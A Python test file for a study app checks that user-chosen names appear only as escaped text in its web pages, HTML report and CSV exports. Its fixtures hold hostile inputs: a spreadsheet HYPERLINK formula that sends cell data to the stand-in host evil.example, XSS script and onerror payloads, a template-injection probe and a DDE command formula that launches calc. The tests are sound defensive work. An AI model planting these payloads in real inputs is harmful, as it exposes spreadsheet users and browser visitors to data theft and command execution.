"""Names that people chose are text: in pages, in the report, in tables that a spreadsheet opens."""

import csv
import json

import pytest
from click.testing import CliRunner

from studyapp.app import create_app
from studyapp.cli import main
from studyapp.core.judges_file import JudgeLine
from studyapp.services.folder import preparing
from studyapp.services.ground import studies
from studyapp.services.ground.workspace import open_workspace
from studyapp.services.people import invitations
from tests.accounts import owner_token
from tests.conftest import NOW
from tests.web.conftest import Browser
from tests.web.jobs_here import do_jobs

NAMES = {
    "Toms team": '=HYPERLINK("http://evil.example/?"&A1)',
    "Second light": "<img src=x onerror=alert(1)>",
    "Third eye": "{{ 4 * 'zx' }}</script><script>alert(2)</script>",
    "Fourth wall": "@SUM(1+1)*cmd|' /C calc'!A0",
}
JUDGE = JudgeLine("+<script>alert(3)</script>", "jude@example.org")


@pytest.fixture
def closed(folder, monkeypatch):
    """Return the folder of a closed study with such names, and Olga's and Jude's browsers."""
    monkeypatch.delenv("STUDYAPP_DATABASE_URL", raising=False)
    file = folder / "study.yaml"
    text = file.read_text()
    for plain, hostile in NAMES.items():
        text = text.replace(f"name: {plain}", f"name: {json.dumps(hostile)}")
    file.write_text(text)
    preparing.prepare_study(folder, workers=1, progress=None, now=NOW)
    workspace = open_workspace(folder)
    with workspace.database.writing() as session:
        (jude,) = invitations.invite_judges(session, workspace.key, [JUDGE], now=NOW)
        studies.open_study(session, now=NOW)
    olga = owner_token(folder)
    app = create_app(folder)
    judge, organiser = Browser(app.test_client()), Browser(app.test_client())
    judge.get(f"/j/{jude.token}")
    organiser.get(f"/o/{olga}")
    judge.pick(judge.trial(), 1, 2, 3)
    with workspace.database.writing() as session:
        studies.close_study(session, now=NOW)
    yield folder, organiser, judge
    workspace.database.close()
    app.extensions["studyapp"].workspace.database.close()


def assert_harmless(page: str) -> None:
    for markup in ("<img src=x", "<script>alert", "</script><script>"):
        assert markup not in page
    assert "zxzxzxzx" not in page, "a name was computed"  # what no hash or number can hold by chance


def test_pages_and_report_show_names_as_text(closed):
    folder, olga, jude = closed
    ranking = olga.get("/console/ranking").text
    assert_harmless(ranking)
    assert "&lt;img src=x onerror=alert(1)&gt;" in ranking
    for page in (olga.get("/console").text, jude.get("/judge").text):
        assert_harmless(page)
    assert olga.post("/console/export").status_code == 302
    assert do_jobs(olga.client.application) == ["done"]
    assert_harmless((folder / "var/exports/report.html").read_text())


def test_tables_hold_no_formula(closed):
    folder, olga, _ = closed
    olga.get("/console/ranking")
    assert olga.post("/console/export").status_code == 302
    assert do_jobs(olga.client.application) == ["done"]
    for path in (folder / "var/exports").glob("*.csv"):
        assert not formulas(path.read_text()), path.name
    printed = CliRunner().invoke(main, ["rank", str(folder), "--format", "csv"]).stdout
    assert "HYPERLINK" in printed
    assert not formulas(printed)


def test_links_as_csv_hold_no_formula(folder, tmp_path, monkeypatch):
    monkeypatch.delenv("STUDYAPP_DATABASE_URL", raising=False)
    judges = tmp_path / "judges.csv"
    judges.write_text('name,email,conflicts\n"=1+1",x@example.org,\n"  @SUM(1)",-y@example.org,\n')
    printed = CliRunner().invoke(main, ["invite", str(folder), str(judges)]).stdout
    assert len(printed.splitlines()) == 3
    assert not formulas(printed)


def formulas(text: str) -> list[str]:
    """Return the cells that a spreadsheet would run; numbers may begin with a sign."""
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    return [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@")) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
